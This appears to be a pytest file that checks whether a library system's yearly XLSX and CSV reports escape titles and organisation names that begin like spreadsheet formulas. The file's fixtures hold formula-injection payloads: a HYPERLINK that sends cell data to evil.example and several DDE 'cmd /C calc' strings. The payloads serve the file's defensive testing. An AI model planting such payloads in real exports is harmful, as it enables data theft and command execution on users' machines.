"""The yearly report never carries a live formula: a title or a name beginning like one (=, +,
-, @, tab, CR) is written with a leading single quote in the XLSX and in the CSV alike."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from agents import CHROME_ANDROID
from openpyxl import load_workbook

from library.accounts import services as accounts
from library.accounts.permissions import SYSTEM
from library.catalog import services as catalog
from library.extensions import db
from library.metrics import reach
from library.metrics.report import report_csv, report_xlsx
from library.metrics.rollup import rollup_day
from library.tracking.services import record_event

NOON = datetime(2026, 6, 1, 5, 0, tzinfo=UTC)
TITLES = {
    "=": '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "CR": "\r=1+1",
}
ENTERPRISE = "=cmd|' /C calc'!A0 Công ty"
PLAIN = "Bộ luật Lao động 2019"


@pytest.fixture(scope="module")
def report(module_app):
    """A year in which a material of each dangerous title was viewed, and an enterprise whose
    name begins like a formula has a workforce: the report as XLSX and as CSV."""
    firm = accounts.create_organisation(SYSTEM, "cty-cong-thuc", ENTERPRISE, "enterprise", 100)
    org = accounts.create_organisation(SYSTEM, "so-ldtbxh", "Sở Lao động", "department")
    for n, title in enumerate([*TITLES.values(), PLAIN]):
        raw = {
            "title": f"Tài liệu {n}",
            "kind": "legal_digest",
            "areas": ["politics-law"],
            "license": "gov-work",
            "body": "Điều 1.",
            "status": "published",
        }
        material = catalog.create_material(SYSTEM, org, raw)
        # Written as stored, past the form's trimming: an import or an older version may have
        # kept a leading tab or CR.
        material.title = title
        db.session.commit()
        record_event(material.id, "view", f"c{n}", CHROME_ANDROID, "zalo", firm.id, now=NOON)
    rollup_day(date(2026, 6, 1))
    reach.set_workforce(SYSTEM, 500, {})
    db.session.commit()
    with module_app.test_request_context():
        return report_xlsx(2026), report_csv(2026)


def escaped(text: str) -> str:
    return "'" + text


def csv_rows(report) -> list[list[str]]:
    """The CSV as Excel set to Vietnamese reads it: separated by semicolons."""
    return list(csv.reader(io.StringIO(report[1].decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("kind", TITLES)
def test_a_title_beginning_like_a_formula_is_text_in_the_xlsx(report, kind):
    book = load_workbook(io.BytesIO(report[0]))
    titles = [row[2].value for row in book["Tài liệu"].iter_rows(min_row=2)]
    assert escaped(TITLES[kind]) in titles
    assert PLAIN in titles  # an ordinary title is left as it is
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


@pytest.mark.parametrize("kind", TITLES)
def test_a_title_beginning_like_a_formula_is_quoted_in_the_csv(report, kind):
    rows = csv_rows(report)
    titles = [row[2] for row in rows if len(row) == 6]
    assert escaped(TITLES[kind]) in titles and PLAIN in titles


def test_an_enterprise_name_beginning_like_a_formula_is_escaped_in_both(report):
    book = load_workbook(io.BytesIO(report[0]))
    names = {row[0].value for row in book["Doanh nghiệp"].iter_rows(min_row=2)}
    assert names == {escaped(ENTERPRISE)}
    rows = csv_rows(report)
    assert escaped(ENTERPRISE) in {row[0] for row in rows if row}
    assert ENTERPRISE not in {row[0] for row in rows if row}


def test_no_text_cell_of_either_file_begins_like_a_formula(report):
    book = load_workbook(io.BytesIO(report[0]))
    cells = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
    rows = csv_rows(report)
    cells += [value for row in rows for value in row]
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert [v for v in cells if isinstance(v, str) and v.startswith(starts)] == []
